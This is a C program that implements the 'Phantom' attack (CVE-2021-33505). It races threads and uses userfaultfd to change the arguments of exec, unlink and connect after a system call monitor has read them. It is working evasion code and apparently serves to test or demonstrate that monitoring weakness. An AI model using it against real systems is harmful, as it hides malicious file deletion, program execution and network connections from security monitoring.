// Trick: Another thread rewrites the arguments of a call after it began and before the kernel has copied them.
// Described: "Phantom attack: evading system call monitoring", R. Guo and J. Zeng, DEF CON 29 (2021); CVE-2021-33505
//
// `phantom exec PROGRAM BEFORE AFTER WORD…`: runs `PROGRAM ignore BEFORE WORD…`; the kernel copies the last word first and waits for
//   it (userfaultfd(2)), and meanwhile BEFORE becomes AFTER.
// `phantom unlink VICTIM DECOY`: unlinks a path that is now the one, now the other, until VICTIM is gone.
// `phantom connect PORT PORT COUNT`: connects so often, and until it got both, to an address whose port is now the one, now the other;
//   tells each that it got.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define CHECK(call) ({ __typeof__(call) result_ = (call); if (result_ < 0) err(99, "%s", #call); result_; })

static char *page(void) {
  char *at = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (at == MAP_FAILED) err(99, "mmap");
  return at;
}

// ---- exec: the last word isn't there until the first was rewritten ----
static int faults;
static char *word, *after, *missing, *late;

static void *rewrite(void *none) {
  struct uffd_msg message;
  CHECK(read(faults, &message, sizeof message));
  strcpy(word, after);
  char *from = page();
  strcpy(from, late);
  struct uffdio_copy copy = {.dst = (unsigned long)missing, .src = (unsigned long)from, .len = 4096};
  CHECK(ioctl(faults, UFFDIO_COPY, &copy));
  for (;;) pause();
}

static void in_exec(int n, char **w) {
  pthread_t thread;
  char *args[64] = {w[0], "ignore"};
  word = args[2] = strcpy(page(), w[1]);
  after = w[2];
  late = w[n - 1];
  missing = page();
  for (int i = 3; i < n; i++) args[i] = w[i];
  args[n - 1] = missing;
  faults = CHECK(syscall(SYS_userfaultfd, O_CLOEXEC));
  struct uffdio_api api = {.api = UFFD_API};
  CHECK(ioctl(faults, UFFDIO_API, &api));
  struct uffdio_register range = {.range = {(unsigned long)missing, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
  CHECK(ioctl(faults, UFFDIO_REGISTER, &range));
  pthread_create(&thread, 0, rewrite, 0);
  CHECK(execv(args[0], args));
}

// ---- unlink and connect: a race, run until it was won ----
static char *path, *paths[2];
static volatile in_port_t *port;
static in_port_t ports[2];
static atomic_int over;

static void *swap_paths(void *none) {
  for (unsigned i = 0; !over; i++) memcpy(path, paths[i & 1], strlen(paths[0]));
  return none;
}
static void *swap_ports(void *none) {
  for (unsigned i = 0; !over; i++) *port = ports[i & 1];
  return none;
}

static void in_unlink(char **w) {
  pthread_t thread;
  if (strlen(w[0]) != strlen(w[1])) errx(99, "paths of one length");
  paths[0] = w[0];
  paths[1] = w[1];
  path = strcpy(page(), w[1]);
  pthread_create(&thread, 0, swap_paths, 0);
  while (access(w[0], F_OK) == 0) unlink(path);
  over = 1;
  pthread_join(thread, 0);
}

static void in_connect(char **w) {
  pthread_t thread;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)}, got;
  ports[0] = htons(atoi(w[0]));
  ports[1] = htons(atoi(w[1]));
  port = &to.sin_port;
  *port = ports[0];
  pthread_create(&thread, 0, swap_ports, 0);
  int seen = 0;
  for (int left = atoi(w[2]); left > 0 || seen != 3; left--) {
    socklen_t size = sizeof got;
    int fd = CHECK(socket(AF_INET, SOCK_STREAM, 0));
    CHECK(connect(fd, (struct sockaddr *)&to, sizeof to));
    CHECK(getpeername(fd, (struct sockaddr *)&got, &size));
    printf("port %d\n", ntohs(got.sin_port));
    seen |= got.sin_port == ports[0] ? 1 : 2;
    close(fd);
  }
  over = 1;
  pthread_join(thread, 0);
}

int main(int argc, char **argv) {
  if (argc < 4) return 97;
  if (!strcmp(argv[1], "exec")) in_exec(argc - 2, argv + 2);
  if (!strcmp(argv[1], "unlink")) in_unlink(argv + 2);
  if (!strcmp(argv[1], "connect")) in_connect(argv + 2);
  printf("done\n");
  fflush(stdout);
  while (getchar() != EOF)
    ;
  return 0;
}
